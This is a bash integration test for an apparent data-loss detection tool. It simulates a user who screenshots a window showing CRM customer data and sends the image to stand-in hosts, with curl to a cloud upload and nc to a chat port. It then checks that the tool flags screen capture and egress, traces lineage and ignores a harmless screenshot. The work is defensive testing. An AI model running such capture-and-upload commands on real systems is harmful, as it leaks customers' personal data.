#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Screen capture. A customer stands in a window on the screen. No file is sent, nothing is copied: the
# screen is grabbed, and the picture goes to a cloud disk; then once more by a tool that has it by
# shared memory, straight into a chat.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
# shellcheck source=tests/support/screen.sh
. "$root/tests/support/screen.sh"
needs_programs Xvfb xmessage xwininfo import scrot
set_the_stage

incident_to() { # SINK EXPRESSION over the incident i that went there
	incidents_say "any($2 for i in d if [s['name'] for s in i['sinks']] == ['$1'])"
}

crm_serves crm.test
cloud_serves pan.test
store_serves im.test 5222
alice_has_a_screen
weir_watches

say "an empty screen goes to the cloud disk"
alice_does <<END
import -display $screen -window root before.png
curl -sS -F file=@before.png https://pan.test/upload
END
then_it "it has arrived" test "$(received_bytes pan.test)" -gt "$(stat -c %s "$home/before.png")"

say "a customer is looked up, and is on the screen"
alice_does <<'END'
curl -sS https://crm.test/policy/P202090001 >customer.json
END
alice_opens customer customer.json

say "the screen is grabbed, and the picture goes to the cloud disk"
before=$(received_bytes pan.test)
alice_does <<END
import -display $screen -window root shot.png
curl -sS -F file=@shot.png https://pan.test/upload
END
bytes=$(stat -c %s "$home/shot.png")
then_it "the picture has arrived ($bytes bytes)" \
	test "$(received_bytes pan.test)" -gt $((before + bytes))
soon "one incident: a direct egress, and that the screen was captured" \
	incidents_say "len(d) == 1 and d[0]['detectors'] == ['direct_egress', 'screen_capture']"
soon "it has the technique of it" incident_to pan.test "'T1113' in i['attack']"
soon "it came from the CRM and went to the cloud disk" \
	incident_to pan.test "{s['name'] for s in i['sources']} == {'crm.test'}"
soon "the bytes are those of the picture and of the form around it" \
	incident_to pan.test "$bytes < i['bytes_out'] < $bytes + 4096 and i['bytes_certainty'] == 'exact'"
soon "how many records it shows is unknown" \
	incident_to pan.test "i['records'] == {'value': None, 'certainty': 'unknown'}"
lineage_has "[s for i in d if [k['name'] for k in i['sinks']] == ['pan.test'] for s in i['lineage']]" \
	"curl takes from the CRM:curl:in:crm.test" "the window reads the customer:xmessage:in:customer.json" \
	"it draws on the screen:xmessage:out:screen" "import grabs the screen:import-im6.q16:in:screen" \
	"import writes the picture:import-im6.q16:out:shot.png" "curl sends it:curl:out:pan.test"
then_it "the empty picture is no part of it" \
	incident_to pan.test "not any(s['object']['name'].endswith('before.png') for s in i['lineage'])"
then_it "what was taken of the screen is an estimate" \
	events_say "{e['certainty'] for e in d if e['object']['kind'] == 'screen' and e['kind'] == 'flow'} == {'estimated'}"
"$weir" show 1 --data "$data" >"$work/show.txt" 2>&1
tr '\n' ' ' <"$work/show.txt" >"$work/show.line"
then_it "the story says who grabbed it, and who was on it" grep -Eq \
	"import-im6.q16 grabbed the screen; [0-9]+ s before, xmessage had drawn on it, which held customer data, the last of it taken [0-9]+ s before the grab from customer.json. The picture was written to shot.png and went to pan.test." \
	"$work/show.line"
"$weir" show 1 --lang zh --data "$data" >"$work/show-zh.txt" 2>&1
then_it "in Chinese, too" grep -q "截图写入shot.png，随后发往pan.test。" \
	<(tr -d '\n ' <"$work/show-zh.txt")

say "once more, by shared memory, into a chat"
alice_does <<END
DISPLAY=$screen scrot -o -F again.png
nc -N im.test 5222 <again.png
END
soon "that is an incident, too, to the byte" \
	incident_to im.test "'screen_capture' in i['detectors'] and i['bytes_out'] == $(stat -c %s "$home/again.png")"

say "the window is closed, and somebody else's is opened"
alice_closes customer
alice_does <<'END'
echo "Before my bed the moon is shining bright" >poem.txt
END
alice_opens poem poem.txt
before=$(received_bytes im.test)
alice_does <<END
DISPLAY=$screen scrot -o -F poem.png
nc -N im.test 5222 <poem.png
END
then_it "the picture of the poem has arrived" \
	test "$(received_bytes im.test)" -eq $((before + $(stat -c %s "$home/poem.png")))
weir_was_awake
then_it "and nobody has heard of it" \
	json_says "$work/events.jsonl" "not [e for e in d if 'poem' in str(e['object'])]"
